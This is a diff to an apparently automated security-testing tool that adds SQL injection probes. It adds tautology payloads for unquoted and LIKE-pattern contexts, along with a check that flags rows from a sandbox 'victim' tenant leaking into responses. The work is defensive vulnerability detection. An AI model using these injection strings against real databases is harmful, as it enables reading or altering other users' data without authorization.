@@ -6,7 +6,8 @@ Whoever sends the event reads, changes or deletes rows that the statement was no
 ## How it is proved
 The text carries a quote, or an operator where no quotes are around it. The statement that the driver or the service
 received is taken apart: part of the text stands outside of the literal that the program meant it for. A database is
-not needed for that, and a statement that it would refuse is proof as well.
+not needed for that, and a statement that it would refuse is proof as well. Where another user's row comes back, the
+proof says so.
 
 ## Vulnerable
 ```yaml template.yaml
@@ -112,7 +113,9 @@ from typing import TYPE_CHECKING
 
 from goatherd.attack.evidence.literals import SQL, SQL_BACKSLASH, SQL_BRACKETS, excerpt, leaves_literal
 from goatherd.attack.oracles.api import Attack, Opportunity, oracle
+from goatherd.attack.payloads.exfiltration import seen
 from goatherd.core.finding import CRITICAL
+from goatherd.sandbox.tenants import VICTIM
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -132,6 +135,9 @@ _TEXTS = (
     "{mark}*/x",
     "{mark}\nx",
 )
+# The mark is what the statement is found by; a comment keeps it from being taken for a column.
+_UNQUOTED = ("{a} OR {a}={a} /*{mark}*/", "{a}) OR ({a}={a} /*{mark}*/")
+_PATTERN = "{mark}' OR '{a}' LIKE '{a}"
 _STATEMENT = re.compile(r"(?:^|\.)(?:Statement|sql|QueryString|Sql|PartiQLStatement)$")
 _BACKSLASH, _BRACKETS = re.compile("mysql|maria|bigquery", re.IGNORECASE), re.compile("mssql|sqlite|pyodbc", re.I)
 _STANDARD = re.compile("psycopg|^pg|asyncpg|duckdb|oracle|dynamodb|athena|redshift", re.IGNORECASE)
@@ -141,17 +147,35 @@ _STANDARD = re.compile("psycopg|^pg|asyncpg|duckdb|oracle|dynamodb|athena|redshi
 def sql_structure_changes(opportunity: Opportunity) -> Iterator[Attack]:
     if opportunity.place == "call" and not _STATEMENT.search(str(opportunity.note["parameter"])):
         return
-    for text in _TEXTS:
+    for text in _texts(opportunity):
         a, _ = opportunity.marks.product()
         value = text.format(mark=opportunity.mark, a=a)
 
         def judge(trace: Trace, value: str = value) -> str:
             for by, statement in _statements(trace, opportunity):
                 if all(leaves_literal(statement, value, language) for language in _languages(by)):
-                    return f"the text changed the statement: {excerpt(statement, opportunity.mark)}"
+                    changed = f"the text changed the statement: {excerpt(statement, opportunity.mark)}"
+                    return f"{_rows(trace, opportunity)}{changed}"
             return ""
 
         yield opportunity.attack(value, judge)
+
+
+def _texts(opportunity: Opportunity) -> tuple[str, ...]:
+    """Those first that make a condition true where the text stands: without quotes, or in a pattern."""
+    before, _, after = opportunity.text.partition(opportunity.mark)
+    if after.startswith("%"):
+        return (_PATTERN, *_TEXTS)
+    return _TEXTS if before.endswith(("'", '"', "`")) else (*_UNQUOTED, *_TEXTS)
+
+
+def _rows(trace: Trace, opportunity: Opportunity) -> str:
+    """Whose rows the answer holds that were not in the answer to the harmless event."""
+    before = {canary.text for canary in opportunity.pod.canaries.in_text(seen(opportunity.seed.trace))}
+    for canary in opportunity.pod.canaries.in_text(seen(trace)):
+        if canary.kind == "row" and canary.owner == VICTIM.username and canary.text not in before:
+            return f"the answer holds {canary.place}: "
+    return ""
 
 
 def _statements(trace: Trace, opportunity: Opportunity) -> Iterator[tuple[str, str]]:
